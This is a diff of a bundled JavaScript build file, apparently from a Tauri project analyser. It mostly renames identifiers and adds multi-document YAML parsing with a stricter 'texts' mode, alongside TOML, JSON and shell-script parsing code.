@@ -17,6 +17,7 @@ import {
   ANY_SITE,
   ASSET_URLS,
   BUNDLED,
+  IN_CODE,
   LIFTED,
   OWN_REGISTRY,
   THIS_REPOSITORY,
@@ -6770,10 +6771,10 @@ var require_cmp = __commonJS({
 var require_comparator = __commonJS({
   "node_modules/semver/classes/comparator.js"(exports, module) {
     "use strict";
-    var ANY3 = /* @__PURE__ */ Symbol("SemVer ANY");
+    var ANY4 = /* @__PURE__ */ Symbol("SemVer ANY");
     var Comparator = class _Comparator {
       static get ANY() {
-        return ANY3;
+        return ANY4;
       }
       constructor(e2, r3) {
         if (r3 = parseOptions(r3), e2 instanceof _Comparator) {
@@ -6781,19 +6782,19 @@ var require_comparator = __commonJS({
             return e2;
           e2 = e2.value;
         }
-        e2 = e2.trim().split(/\s+/).join(" "), debug("comparator", e2, r3), this.options = r3, this.loose = !!r3.loose, this.parse(e2), this.semver === ANY3 ? this.value = "" : this.value = this.operator + this.semver.version, debug("comp", this);
+        e2 = e2.trim().split(/\s+/).join(" "), debug("comparator", e2, r3), this.options = r3, this.loose = !!r3.loose, this.parse(e2), this.semver === ANY4 ? this.value = "" : this.value = this.operator + this.semver.version, debug("comp", this);
       }
       parse(e2) {
         const r3 = this.options.loose ? re3[t.COMPARATORLOOSE] : re3[t.COMPARATOR], s5 = e2.match(r3);
         if (!s5)
           throw new TypeError(`Invalid comparator: ${e2}`);
-        this.operator = s5[1] !== void 0 ? s5[1] : "", this.operator === "=" && (this.operator = ""), s5[2] ? this.semver = new SemVer(s5[2], this.options.loose) : this.semver = ANY3;
+        this.operator = s5[1] !== void 0 ? s5[1] : "", this.operator === "=" && (this.operator = ""), s5[2] ? this.semver = new SemVer(s5[2], this.options.loose) : this.semver = ANY4;
       }
       toString() {
         return this.value;
       }
       test(e2) {
-        if (debug("Comparator.test", e2, this.options.loose), this.semver === ANY3 || e2 === ANY3)
+        if (debug("Comparator.test", e2, this.options.loose), this.semver === ANY4 || e2 === ANY4)
           return true;
         if (typeof e2 == "string")
           try {
@@ -7142,14 +7143,14 @@ var require_valid2 = __commonJS({
   "node_modules/semver/ranges/valid.js"(exports, module) {
     "use strict";
     var Range = require_range();
-    var validRange3 = (e2, r3) => {
+    var validRange5 = (e2, r3) => {
       try {
         return new Range(e2, r3).range || "*";
       } catch {
         return null;
       }
     };
-    module.exports = validRange3;
+    module.exports = validRange5;
   }
 });
 
@@ -7158,7 +7159,7 @@ var require_satisfies = __commonJS({
   "node_modules/semver/functions/satisfies.js"(exports, module) {
     "use strict";
     var Range = require_range();
-    var satisfies3 = (s5, e2, t) => {
+    var satisfies4 = (s5, e2, t) => {
       try {
         e2 = new Range(e2, t);
       } catch {
@@ -7166,7 +7167,7 @@ var require_satisfies = __commonJS({
       }
       return e2.test(s5);
     };
-    module.exports = satisfies3;
+    module.exports = satisfies4;
   }
 });
 
@@ -7192,9 +7193,9 @@ function placesIn(file2) {
     };
   };
 }
-function lineStarts(text2) {
-  const starts = [text2.startsWith("\uFEFF") ? 1 : 0];
-  for (let end = text2.indexOf("\n"); end >= 0; end = text2.indexOf("\n", end + 1)) starts.push(end + 1);
+function lineStarts(text3) {
+  const starts = [text3.startsWith("\uFEFF") ? 1 : 0];
+  for (let end = text3.indexOf("\n"); end >= 0; end = text3.indexOf("\n", end + 1)) starts.push(end + 1);
   return starts;
 }
 function lineOf(starts, offset) {
@@ -7222,12 +7223,12 @@ function refuseDepth(depth, offset) {
   if (depth > MAX_DEPTH)
     throw new Unreadable(`Values are nested more than ${MAX_DEPTH} levels deep.`, offset);
 }
-function refuseCrowd(text2, signs, limit) {
-  if (text2.length <= limit) return;
+function refuseCrowd(text3, signs, limit) {
+  if (text3.length <= limit) return;
   const counted2 = new Set(Array.from(signs, (sign) => sign.charCodeAt(0)));
   let seen = 0;
-  for (let offset = 0; offset < text2.length; offset++) {
-    if (!counted2.has(text2.charCodeAt(offset))) continue;
+  for (let offset = 0; offset < text3.length; offset++) {
+    if (!counted2.has(text3.charCodeAt(offset))) continue;
     seen++;
     if (seen > limit) throw new Unreadable(`The file holds more than ${limit} values.`, offset);
   }
@@ -7235,12 +7236,24 @@ function refuseCrowd(text2, signs, limit) {
 
 // src/formats/yaml.ts
 var MAX_VALUES = 25e4;
+var SIGNS = "\n[{,:?-";
 function parseYaml(file2) {
+  const limits = { values: MAX_VALUES, depth: MAX_DEPTH };
+  return compose(file2, limits, "core", (composer) => ({
+    ok: true,
+    value: composer.document(),
+    duplicates: []
+  }));
+}
+function parseYamlDocuments(file2, limits) {
+  return compose(file2, limits, "texts", (composer) => ({ ok: true, documents: composer.documents() }));
+}
+function compose(file2, limits, words3, read9) {
   const place = placesIn(file2);
   try {
-    refuseCrowd(file2.text, "\n[{,:?-", MAX_VALUES);
-    const events = Bn(file2.text, { maxDepth: MAX_DEPTH });
-    return { ok: true, value: new Composer(events, file2.text, place).document(), duplicates: [] };
+    refuseCrowd(file2.text, SIGNS, limits.values);
+    const events = Bn(file2.text, { maxDepth: limits.depth });
+    return read9(new Composer(events, file2.text, place, words3));
   } catch (error) {
     const { message, offset } = reasonOf(error, file2.text);
     return { ok: false, at: place(offset, offset), message };
@@ -7250,21 +7263,33 @@ var Composer = class {
   #events;
   #text;
   #place;
+  #words;
   #next = 0;
   /** The end of the last event: an empty value has no place of its own. */
   #end = 0;
-  constructor(events, text2, place) {
+  constructor(events, text3, place, words3) {
     this.#events = events;
-    this.#text = text2;
+    this.#text = text3;
     this.#place = place;
+    this.#words = words3;
   }
+  /** The only document. */
   document() {
+    const value = this.#document();
+    if (this.#peek() !== void 0) throw new Unreadable("There is more than one document.", this.#end);
+    return value;
+  }
+  documents() {
+    const documents = [];
+    while (this.#peek() !== void 0) documents.push(this.#document());
+    return documents;
+  }
+  #document() {
     const start = this.#take();
     if (start?.type !== T.DOCUMENT) return { kind: "null", at: this.#place(0, 0) };
     if (start.directives.length > 0) throw new Unreadable("A directive (`%`) is not taken here.", 0);
     const value = this.#peek()?.type === T.POP ? this.#nothing() : this.#value();
     this.#take();
-    if (this.#peek() !== void 0) throw new Unreadable("There is more than one document.", this.#end);
     return value;
   }
   #value() {
@@ -7301,6 +7326,8 @@ var Composer = class {
       this.#refuseExtras(event);
       const name = event.valueStart < 0 ? "" : Se(this.#text, event);
       const key = this.#placeOf(event);
+      if (name === "<<" && this.#words === "texts")
+        throw new Unreadable("A merge (`<<`) is not taken here: write the table out.", event.valueStart);
       if (entries.has(name))
         throw new Unreadable(
           `The key ${JSON.stringify(name)} is given twice.`,
@@ -7314,12 +7341,13 @@ var Composer = class {
   #scalar(event) {
     if (event.valueStart < 0) return this.#nothing();
     const at2 = this.#placeOf(event);
-    const text2 = Se(this.#text, event);
-    if (event.style !== d.PLAIN) return { kind: "string", value: text2, at: at2 };
-    const { value } = on.resolveImplicitScalarTag(text2);
+    const text3 = Se(this.#text, event);
+    if (event.style !== d.PLAIN) return { kind: "string", value: text3, at: at2 };
+    if (this.#words === "texts") return wordIn(text3, at2);
+    const { value } = on.resolveImplicitScalarTag(text3);
     if (value === null) return { kind: "null", at: at2 };
     if (typeof value === "boolean") return { kind: "boolean", value, at: at2 };
-    return typeof value === "number" ? { kind: "number", value, at: at2 } : { kind: "string", value: text2, at: at2 };
+    return typeof value === "number" ? { kind: "number", value, at: at2 } : { kind: "string", value: text3, at: at2 };
   }
   #placeOf({ valueStart, valueEnd, style }) {
     if (valueStart < 0) return this.#place(this.#end, this.#end);
@@ -7344,14 +7372,33 @@ var Composer = class {
     return this.#events[this.#next++];
   }
 };
-function reasonOf(error, text2) {
+function wordIn(text3, at2) {
+  switch (text3) {
+    case "true":
+    case "True":
+    case "TRUE":
+      return { kind: "boolean", value: true, at: at2 };
+    case "false":
+    case "False":
+    case "FALSE":
+      return { kind: "boolean", value: false, at: at2 };
+    case "null":
+    case "Null":
+    case "NULL":
+    case "~":
+      return { kind: "null", at: at2 };
+    default:
+      return { kind: "string", value: text3, at: at2 };
+  }
+}
+function reasonOf(error, text3) {
   if (error instanceof Unreadable) return error;
   if (error instanceof RangeError)
     return { message: "A value is too long, or nested too deeply, to be read.", offset: 0 };
   if (error instanceof b) {
     const { reason, mark } = error;
     const sentence = reason.charAt(0).toUpperCase() + reason.slice(1);
-    return { message: `${sentence}.`, offset: Math.min(mark?.position ?? 0, text2.length) };
+    return { message: `${sentence}.`, offset: Math.min(mark?.position ?? 0, text3.length) };
   }
   throw error;
 }
@@ -7401,9 +7448,9 @@ var SettingsReader = class {
       this.#note(value.at, `${code("rules")} names rules, each with what becomes of it: ${code(EXAMPLE)}.`);
       return settings2;
     }
-    for (const [id, { key, value: setting10 }] of value.entries) {
+    for (const [id, { key, value: setting12 }] of value.entries) {
       if (!rules.some((rule) => rule.id === id)) this.#note(key, noRule(id));
-      const wanted = this.#oneOf(id, RULE_SETTINGS, setting10);
+      const wanted = this.#oneOf(id, RULE_SETTINGS, setting12);
       if (wanted !== void 0) settings2.set(id, wanted);
     }
     return settings2;
@@ -7519,8 +7566,8 @@ function joinedSources(sources) {
       const kinds2 = Object.keys(sources);
       const answers = await Promise.all(
         kinds2.map(async (kind) => {
-          const asked2 = needs.filter((need) => need.kind === kind);
-          return [kind, await sources[kind].fetch(asked2)];
+          const asked3 = needs.filter((need) => need.kind === kind);
+          return [kind, await sources[kind].fetch(asked3)];
         })
       );
       const byKind = new Map(answers);
@@ -7598,10 +7645,10 @@ function ruleEpoch(project) {
 
 // src/tauri/builds/build.ts
 function settingsOf({ layers, flags }) {
-  const named9 = layers.map(({ file: file2, inline }) => inline ? file2.text.trim() : file2.path);
+  const named10 = layers.map(({ file: file2, inline }) => inline ? file2.text.trim() : file2.path);
   const { features, allFeatures, noDefaultFeatures, debug, profile } = flags;
   const switches = [allFeatures, noDefaultFeatures, debug].map((at2) => at2 !== null);
-  return JSON.stringify([named9, features.map(({ value }) => value).sort(), switches, profile?.value ?? null]);
+  return JSON.stringify([named10, features.map(({ value }) => value).sort(), switches, profile?.value ?? null]);
 }
 
 // src/tauri/project.ts
@@ -7617,8 +7664,8 @@ var NO_FLAGS = {
 function member(value, name) {
   return value?.kind === "object" ? value.entries.get(name)?.value : void 0;
 }
-function pick(value, ...names2) {
-  return names2.reduce(member, value);
+function pick(value, ...names3) {
+  return names3.reduce(member, value);
 }
 function asString(value) {
   return value?.kind === "string" ? value.value : void 0;
@@ -7655,8 +7702,8 @@ var JsonScanner = class {
   offset = 0;
   #text;
   #json5;
-  constructor(text2, dialect) {
-    this.#text = text2;
+  constructor(text3, dialect) {
+    this.#text = text3;
     this.#json5 = dialect === "json5";
   }
   /** Skips white space, and comments in JSON5. Returns the offset it stops at. */
@@ -7829,8 +7876,8 @@ var JsonParser = class {
   #scanner;
   #trailingCommas;
   #place;
-  constructor(text2, dialect, place) {
-    this.#scanner = new JsonScanner(text2, dialect);
+  constructor(text3, dialect, place) {
+    this.#scanner = new JsonScanner(text3, dialect);
     this.#trailingCommas = dialect === "json5";
     this.#place = place;
   }
@@ -9507,21 +9554,21 @@ function Je(e2, t) {
 var MAX_VALUES3 = 2e5;
 function parseToml(file2) {
   const mark = file2.text.startsWith("\uFEFF") ? 1 : 0;
-  const text2 = file2.text.slice(mark);
+  const text3 = file2.text.slice(mark);
   const inFile = placesIn(file2);
   const place = ([start, end]) => inFile(start + mark, end + mark);
   try {
-    refuseCrowd(text2, "[{,.=#", MAX_VALUES3);
-    refuseLoneReturns(text2);
-    const { body } = Je(text2, { tomlVersion: "1.1" });
+    refuseCrowd(text3, "[{,.=#", MAX_VALUES3);
+    refuseLoneReturns(text3);
+    const { body } = Je(text3, { tomlVersion: "1.1" });
     return { ok: true, value: documentOf(body[0], place), duplicates: [] };
   } catch (error) {
-    const { message, offset } = reasonOf2(error, text2);
+    const { message, offset } = reasonOf2(error, text3);
     return { ok: false, at: place([offset, offset]), message };
   }
 }
-function refuseLoneReturns(text2) {
-  const offset = text2.search(/\r(?!\n)/);
+function refuseLoneReturns(text3) {
+  const offset = text3.search(/\r(?!\n)/);
   if (offset >= 0) throw new Unreadable("A carriage return stands alone.", offset);
 }
 function documentOf(document, place) {
@@ -9550,8 +9597,8 @@ function assign(table2, { key, value }, depth, place) {
   holder.entries.set(nameOf(last), { key: place(last.range), value: convert(value, below6, place) });
 }
 function enter(table2, key, place) {
-  const known6 = table2.entries.get(nameOf(key))?.value;
-  if (known6 !== void 0) return latest(known6, key);
+  const known7 = table2.entries.get(nameOf(key))?.value;
+  if (known7 !== void 0) return latest(known7, key);
   const made2 = tableAt(place(key.range));
   table2.entries.set(nameOf(key), { key: place(key.range), value: made2 });
   return made2;
@@ -9567,9 +9614,9 @@ function latest(value, key) {
 }
 function append(holder, key, header, place) {
   const made2 = tableAt(header);
-  const known6 = holder.entries.get(nameOf(key))?.value;
-  if (known6?.kind === "array") {
-    known6.items.push(made2);
+  const known7 = holder.entries.get(nameOf(key))?.value;
+  if (known7?.kind === "array") {
+    known7.items.push(made2);
     return made2;
   }
   const list = { kind: "array", items: [made2], at: header };
@@ -9617,12 +9664,12 @@ function partsOf({ keys, range }) {
 function nameOf(key) {
   return key.type === "TOMLBare" ? key.name : key.value;
 }
-function reasonOf2(error, text2) {
+function reasonOf2(error, text3) {
   if (error instanceof Unreadable) return error;
   if (error instanceof RangeError)
     return { message: "A value is too long, or nested too deeply, to be read.", offset: 0 };
   if (error instanceof b2) {
-    return { message: `${error.message}.`, offset: Math.min(error.index, text2.length) };
+    return { message: `${error.message}.`, offset: Math.min(error.index, text3.length) };
   }
   throw error;
 }
@@ -9644,9 +9691,9 @@ var LineReader = class {
   #root;
   #table;
   #at = 0;
-  constructor({ path, text: text2 }) {
+  constructor({ path, text: text3 }) {
     this.#path = path;
-    this.#lines = text2.split("\n");
+    this.#lines = text3.split("\n");
     this.#root = { kind: "object", entries: /* @__PURE__ */ new Map(), at: this.#place(1) };
     this.#table = this.#root;
   }
@@ -9670,7 +9717,7 @@ var LineReader = class {
   /** Reads a line; false where its form isn't known, or where it says something twice. */
   #line(line) {
     if (line.startsWith("[")) return this.#header(line);
-    const [, key = "", text2, digits2, list] = ENTRY.exec(line) ?? [];
+    const [, key = "", text3, digits2, list] = ENTRY.exec(line) ?? [];
     if (key === "") return false;
     const column = key.length + 4;
     const [keyAt, at2] = [this.#place(1), this.#place(column)];
@@ -9679,7 +9726,7 @@ var LineReader = class {
       const value2 = list === "" ? this.#list(column) : this.#inline(list, column);
       return this.#set(name, keyAt, value2);
     }
-    const value = text2 === void 0 ? { kind: "number", value: Number(digits2), at: at2 } : { kind: "string", value: text2, at: at2 };
+    const value = text3 === void 0 ? { kind: "number", value: Number(digits2), at: at2 } : { kind: "string", value: text3, at: at2 };
     return this.#set(name, keyAt, value);
   }
   #set(name, key, value) {
@@ -9732,12 +9779,12 @@ var LineReader = class {
   /** `[[name]]`, or `[[holder.name]]`. */
   #append(holder, name, made2) {
     const parent = holder === void 0 ? this.#root : this.#holder(holder);
-    const known6 = parent?.entries.get(name)?.value;
-    if (known6?.kind === "array" && known6.items[0]?.kind === "object") {
-      known6.items.push(made2);
+    const known7 = parent?.entries.get(name)?.value;
+    if (known7?.kind === "array" && known7.items[0]?.kind === "object") {
+      known7.items.push(made2);
       return true;
     }
-    if (parent === void 0 || known6 !== void 0) return false;
+    if (parent === void 0 || known7 !== void 0) return false;
     const column = holder === void 0 ? 3 : holder.length + 4;
     const list = { kind: "array", items: [made2], at: made2.at };
     parent.entries.set(name, { key: this.#place(column), value: list });
@@ -9746,8 +9793,8 @@ var LineReader = class {
   /** Tables that exist only because a header `[[holder.name]]` names them. Any other table may not be added to. */
   #holders = /* @__PURE__ */ new Map();
   #holder(name) {
-    const known6 = this.#holders.get(name);
-    if (known6 !== void 0 || this.#root.entries.has(name)) return known6;
+    const known7 = this.#holders.get(name);
+    if (known7 !== void 0 || this.#root.entries.has(name)) return known7;
     const at2 = this.#place(3);
     const made2 = { kind: "object", entries: /* @__PURE__ */ new Map(), at: at2 };
     this.#root.entries.set(name, { key: at2, value: made2 });
@@ -9765,8 +9812,8 @@ function isComment(line) {
 // src/formats/parse.ts
 function parseFile(file2, options = {}) {
   const format = formatOf(file2.path, options.json5 ?? false);
-  const known6 = parsed.get(file2)?.get(format);
-  if (known6 !== void 0) return known6;
+  const known7 = parsed.get(file2)?.get(format);
+  if (known7 !== void 0) return known7;
   const result2 = parseAs(file2, format);
   const results = parsed.get(file2) ?? /* @__PURE__ */ new Map();
   parsed.set(file2, results.set(format, result2));
@@ -9814,8 +9861,8 @@ function cargoConfigs(folder, files) {
 function includedBy(config) {
   return includesIn(config).map((path) => joined(folderOf(config.at.path), path));
 }
-function settingIn(configs, ...names2) {
-  return configs.map((config) => pick(config, ...names2)).find((value) => value !== void 0);
+function settingIn(configs, ...names3) {
+  return configs.map((config) => pick(config, ...names3)).find((value) => value !== void 0);
 }
 function configWithIncluded(start, files) {
   const found9 = /* @__PURE__ */ new Map();
@@ -9843,8 +9890,8 @@ function includesIn(config) {
 // src/tauri/cargo/manifest.ts
 function readManifest(file2) {
   if (file2 === void 0) return void 0;
-  const known6 = read.get(file2);
-  if (known6 !== void 0) return known6;
+  const known7 = read.get(file2);
+  if (known7 !== void 0) return known7;
   const parsed7 = parseFile(file2);
   if (!parsed7.ok) return void 0;
   const manifest2 = manifestOf(file2.path, parsed7.value);
@@ -9891,38 +9938,38 @@ function isAmongMembers(folder, root, patterns3) {
     return path !== null && matches(partsOf2(folder), partsOf2(path));
   });
 }
-function startsWithFolder(folder, root, named9) {
-  const path = joined(root, named9);
+function startsWithFolder(folder, root, named10) {
+  const path = joined(root, named10);
   return path === "" || path !== null && (folder === path || folder.startsWith(`${path}/`));
 }
 function partsOf2(path) {
   return path === "" ? [] : path.split("/");
 }
 function matches(parts, pattern) {
-  let reached2 = /* @__PURE__ */ new Set([0]);
+  let reached3 = /* @__PURE__ */ new Set([0]);
   for (const expected of pattern) {
     const next2 = /* @__PURE__ */ new Set();
-    for (const at2 of reached2) {
+    for (const at2 of reached3) {
       if (expected === "**") for (let end = at2; end <= parts.length; end += 1) next2.add(end);
       else if (at2 < parts.length && isWildly(parts[at2] ?? "", expected)) next2.add(at2 + 1);
     }
-    reached2 = next2;
+    reached3 = next2;
   }
-  return reached2.has(parts.length);
+  return reached3.has(parts.length);
 }
 function isWildly(part, pattern) {
   if (!/[*?[]/.test(pattern)) return part === pattern;
   if (pattern.includes("[")) return true;
   return star(part, pattern);
 }
-function star(text2, pattern) {
+function star(text3, pattern) {
   let [at2, expected, lastStar, restart] = [0, 0, -1, 0];
-  while (at2 < text2.length) {
+  while (at2 < text3.length) {
     if (pattern[expected] === "*") {
       lastStar = expected;
       restart = at2;
       expected += 1;
-    } else if (pattern[expected] === "?" || pattern[expected] === text2[at2]) {
+    } else if (pattern[expected] === "?" || pattern[expected] === text3[at2]) {
       at2 += 1;
       expected += 1;
     } else if (lastStar >= 0) {
@@ -9951,8 +9998,8 @@ function findRoot(folder, files) {
   const own = manifestIn(folder, files);
   if (own === void 0)
     return { own, root: void 0, folder: lockedFolder(folder, files), namedBy: void 0 };
-  const named9 = pick(packageOf(own.value), "workspace");
-  if (asString(named9) !== void 0) return workspaceNamed(own, own, named9, files);
+  const named10 = pick(packageOf(own.value), "workspace");
+  if (asString(named10) !== void 0) return workspaceNamed(own, own, named10, files);
   if (member(own.value, "workspace") !== void 0) return { own, root: own, folder, namedBy: void 0 };
   for (const above of withAncestors(folder).slice(1)) {
     const manifest2 = manifestIn(above, files);
@@ -9998,12 +10045,12 @@ function quoted(words3) {
   return words3.map((word2) => `'${word2.replaceAll("'", "'\\''")}'`).join(" ");
 }
 var FOR_TESTS = /(?:^|[^a-z])(?:tests?|testing|e2e|spec|smoke|playwright|wdio|webdriver)(?:$|[^a-z])/i;
-function isNamedForTests(...names2) {
-  return names2.some((name) => FOR_TESTS.test(name));
+function isNamedForTests(...names3) {
+  return names3.some((name) => FOR_TESTS.test(name));
 }
-function seemsToShip(text2) {
+function seemsToShip(text3) {
   return /gh release|action-gh-release|release-action|upload-release|tagName|releaseId|\bpublish|\bdeploy|\bs3\b|rclone|\bscp\b|cloud-release|butler push|winget|snapcraft|fastlane/i.test(
-    text2
+    text3
   );
 }
 
@@ -10011,8 +10058,8 @@ function seemsToShip(text2) {
 var Cursor = class {
   text;
   at = 0;
-  constructor(text2) {
-    this.text = text2;
+  constructor(text3) {
+    this.text = text3;
   }
   get isAtEnd() {
     return this.at >= this.text.length;
@@ -10023,8 +10070,8 @@ var Cursor = class {
   take() {
     return this.text[this.at++] ?? "";
   }
-  startsWith(text2) {
-    return this.text.startsWith(text2, this.at);
+  startsWith(text3) {
+    return this.text.startsWith(text3, this.at);
   }
   /** Takes what a sticky expression matches here; undefined where it doesn't match. */
   match(sticky) {
@@ -10048,11 +10095,11 @@ var UNKNOWN = "￿";
 var UNKNOWN_WORDS = "￾";
 var LONGEST_SCRIPT = 2e5;
 var DEEPEST_COMMAND = 12;
-function isKnown(text2) {
-  return !text2.includes(UNKNOWN) && !text2.includes(UNKNOWN_WORDS);
+function isKnown(text3) {
+  return !text3.includes(UNKNOWN) && !text3.includes(UNKNOWN_WORDS);
 }
-function textPiece(text2) {
-  return { kind: "text", text: text2 };
+function textPiece(text3) {
+  return { kind: "text", text: text3 };
 }
 function plainText({ pieces }) {
   return pieces.every((piece) => piece.kind === "text") ? pieces.map((piece) => piece.text).join("") : void 0;
@@ -10075,13 +10122,13 @@ var TOO_DEEP = {
   ],
   functions: /* @__PURE__ */ new Map()
 };
-function onOneLine(text2) {
-  return text2.replace(/\\\r?\n/g, " ").replace(/\s+/g, " ").trim();
+function onOneLine(text3) {
+  return text3.replace(/\\\r?\n/g, " ").replace(/\s+/g, " ").trim();
 }
 
 // src/tauri/builds/shell/batch.ts
-function splitBatch(text2) {
-  const lines2 = text2.slice(0, LONGEST_SCRIPT);
+function splitBatch(text3) {
+  const lines2 = text3.slice(0, LONGEST_SCRIPT);
   const commands2 = [];
   const ends = /(?:"[^"\n]*"|\^\r?\n|\^.|\bin[ \t]*\([^()'`"\n]*\)|[^"^&|()\n])+/gi;
   for (const { 0: source, index } of lines2.matchAll(ends)) {
@@ -10115,10 +10162,10 @@ function targetIn(word2, next2) {
   return [{ ...word2, pieces: [textPiece(file2), ...rest2] }];
 }
 function assignmentOf(source) {
-  const [, read7] = /^set\s+\/[ap]\s+"?([^=\s"]+)=/i.exec(source) ?? [];
-  if (read7 !== void 0) {
+  const [, read9] = /^set\s+\/[ap]\s+"?([^=\s"]+)=/i.exec(source) ?? [];
+  if (read9 !== void 0) {
     const unknown3 = { pieces: [{ kind: "computed", splits: true, commands: [] }], quoted: true };
-    return { name: read7, words: [unknown3], isList: false, adds: false };
+    return { name: read9, words: [unknown3], isList: false, adds: false };
   }
   const [, quoted4, plain5] = /^set\s+(?:"([^=\s"]+=.*)"|([^=\s/]+=.*))\s*$/is.exec(source) ?? [];
   const [name, ...rest2] = (quoted4 ?? plain5 ?? "").split("=");
@@ -10135,28 +10182,28 @@ function wordsOf2(source) {
   return words3;
 }
 function word(cursor) {
-  let text2 = "";
+  let text3 = "";
   let isQuoted = false;
   let quoted4 = false;
   while (!cursor.isAtEnd && (isQuoted || !/[\s,;]/.test(cursor.peek()))) {
     const character2 = cursor.take();
-    if (character2 === "\\" && cursor.match(/"/y) !== void 0) text2 += '"';
+    if (character2 === "\\" && cursor.match(/"/y) !== void 0) text3 += '"';
     else if (character2 === '"') {
       isQuoted = !isQuoted;
       quoted4 = true;
-    } else text2 += character2 === "^" && !isQuoted ? cursor.take() : character2;
+    } else text3 += character2 === "^" && !isQuoted ? cursor.take() : character2;
   }
-  return { pieces: piecesOf(text2, !quoted4), quoted: quoted4 };
+  return { pieces: piecesOf(text3, !quoted4), quoted: quoted4 };
 }
 var VARIABLE = /%~dp0|%%(?:~[a-zA-Z]*(?=[^\s%]))?[^\s%]|%(?:~?[0-9*]|([^%\s:=]+)(:[^%]*)?%)|!([^!\s]+)!/g;
-function piecesOf(text2, splits) {
+function piecesOf(text3, splits) {
   const pieces = [];
   let from = 0;
-  for (const { 0: whole2, 1: percent, 2: part, 3: bang, index } of text2.matchAll(VARIABLE)) {
-    pieces.push(textPiece(text2.slice(from, index)), variable(whole2, percent ?? bang, part, splits));
+  for (const { 0: whole2, 1: percent, 2: part, 3: bang, index } of text3.matchAll(VARIABLE)) {
+    pieces.push(textPiece(text3.slice(from, index)), variable(whole2, percent ?? bang, part, splits));
     from = index + whole2.length;
   }
-  return [...pieces, textPiece(text2.slice(from))];
+  return [...pieces, textPiece(text3.slice(from))];
 }
 function variable(whole2, name, part, splits) {
   if (part !== void 0 || whole2.startsWith("%%")) return { kind: "computed", splits, commands: [] };
@@ -10256,8 +10303,8 @@ var PosixWord = class _PosixWord {
   #isPattern(character2) {
     if (character2 === "*" || character2 === "?") return true;
     if (character2 !== "[" && character2 !== "{") return false;
-    const { text: text2, at: at2 } = this.#cursor;
-    const [after2 = ""] = text2.slice(at2, at2 + LONGEST_PATTERN).split(/\s/, 1);
+    const { text: text3, at: at2 } = this.#cursor;
+    const [after2 = ""] = text3.slice(at2, at2 + LONGEST_PATTERN).split(/\s/, 1);
     if (after2.length === LONGEST_PATTERN) return true;
     return character2 === "[" ? after2.includes("]") : /^[^}]*(?:,|\.\.)[^}]*\}/.test(after2);
   }
@@ -10268,9 +10315,9 @@ var PosixWord = class _PosixWord {
     this.#cursor.at += 1;
     return [];
   }
-  #literal(text2) {
+  #literal(text3) {
     this.#quoted = true;
-    return [textPiece(text2)];
+    return [textPiece(text3)];
   }
   #doubleQuoted() {
     this.#quoted = true;
@@ -10323,13 +10370,13 @@ var PosixWord = class _PosixWord {
   }
   /** `$'…'` of bash, in which escapes count. */
   #ansi() {
-    let text2 = "";
+    let text3 = "";
     while (!this.#cursor.isAtEnd) {
       const character2 = this.#cursor.take();
       if (character2 === "'") break;
-      text2 += character2 === "\\" ? this.#ansiEscape() : character2;
+      text3 += character2 === "\\" ? this.#ansiEscape() : character2;
     }
-    return this.#literal(text2);
+    return this.#literal(text3);
   }
   #ansiEscape() {
     const number = this.#cursor.match(/x([0-9a-fA-F]{1,2})|u([0-9a-fA-F]{1,4})|([0-7]{1,3})/y);
@@ -10345,13 +10392,13 @@ var LONGEST_PATTERN = 500;
 var ANSI_ESCAPES = {
   ...{ n: "\n", t: "	", r: "\r", a: "\x07", b: "\b", e: "\x1B", f: "\f", v: "\v" }
 };
-function variable2(name, splits, isList, otherwise) {
+function variable2(name, splits, isList2, otherwise) {
   if (/^[#?$!-]$/.test(name)) return COMPUTED;
   return {
     kind: "variable",
     name,
     splits,
-    all: isList || name === "@" || name === "*" && splits,
+    all: isList2 || name === "@" || name === "*" && splits,
     otherwise
   };
 }
@@ -10374,8 +10421,8 @@ function joined2(pieces) {
 }
 
 // src/tauri/builds/shell/posix.ts
-function splitPosix(text2, depth = 0) {
-  return depth > DEEPEST_COMMAND ? TOO_DEEP : new PosixScript(text2.slice(0, LONGEST_SCRIPT), depth).split();
+function splitPosix(text3, depth = 0) {
+  return depth > DEEPEST_COMMAND ? TOO_DEEP : new PosixScript(text3.slice(0, LONGEST_SCRIPT), depth).split();
 }
 var RESERVED = /* @__PURE__ */ new Set([
   "if",
@@ -10413,8 +10460,8 @@ var PosixScript = class {
   #offset = null;
   #fedBy = null;
   #pipeline = "";
-  constructor(text2, depth) {
-    this.#cursor = new Cursor(text2);
+  constructor(text3, depth) {
+    this.#cursor = new Cursor(text3);
     this.#depth = depth;
   }
   split() {
@@ -10522,9 +10569,9 @@ var PosixScript = class {
     if (this.#mayAssign() && this.#assignment()) return;
     if (this.#words.length === 0 && this.#brace()) return;
     const word2 = this.#read();
-    const text2 = plainText(word2);
-    if (this.#words.length === 0 && !word2.quoted && text2 !== void 0 && this.#isReserved(text2)) return;
-    const isDescriptor = /^\d+$/.test(text2 ?? "") && /[<>]/.test(this.#cursor.peek());
+    const text3 = plainText(word2);
+    if (this.#words.length === 0 && !word2.quoted && text3 !== void 0 && this.#isReserved(text3)) return;
+    const isDescriptor = /^\d+$/.test(text3 ?? "") && /[<>]/.test(this.#cursor.peek());
     if (!isDescriptor) this.#words.push(word2);
   }
   #read() {
@@ -10545,11 +10592,11 @@ var PosixScript = class {
     else if (this.#groups.at(-1)?.closes === "}") this.#close();
     return true;
   }
-  #isReserved(text2) {
-    if (text2 === "for" || text2 === "select") this.#loop();
-    else if (text2 === "function")
+  #isReserved(text3) {
+    if (text3 === "for" || text3 === "select") this.#loop();
+    else if (text3 === "function")
       this.#define(this.#cursor.match(/[ \t]*([^\s(){}]+)[ \t]*(?:\([ \t]*\))?/y)?.[1]);
-    else if (!RESERVED.has(text2)) return false;
+    else if (!RESERVED.has(text3)) return false;
     return true;
   }
   /** `for name in words`: each word is a value of the name. */
@@ -10565,9 +10612,9 @@ var PosixScript = class {
     const found9 = this.#cursor.match(ASSIGNMENT);
     if (found9 === void 0) return false;
     const [, name = "", plus] = found9;
-    const isList = this.#cursor.peek() === "(";
-    const words3 = isList ? this.#list() : [this.#value()];
-    this.#assignments.push({ name, words: words3, isList, adds: plus === "+" });
+    const isList2 = this.#cursor.peek() === "(";
+    const words3 = isList2 ? this.#list() : [this.#value()];
+    this.#assignments.push({ name, words: words3, isList: isList2, adds: plus === "+" });
     return true;
   }
   #value() {
@@ -10637,8 +10684,8 @@ function readPowershellList(cursor, split3, depth) {
   do {
     cursor.match(/\s+/y);
     const [, single2, double] = cursor.match(/'([^'\n]*)'|"([^"\n$`]*)"/y) ?? [];
-    const text2 = single2 ?? double;
-    words3.push({ pieces: [textPiece(text2 ?? UNKNOWN_WORDS)], quoted: true });
+    const text3 = single2 ?? double;
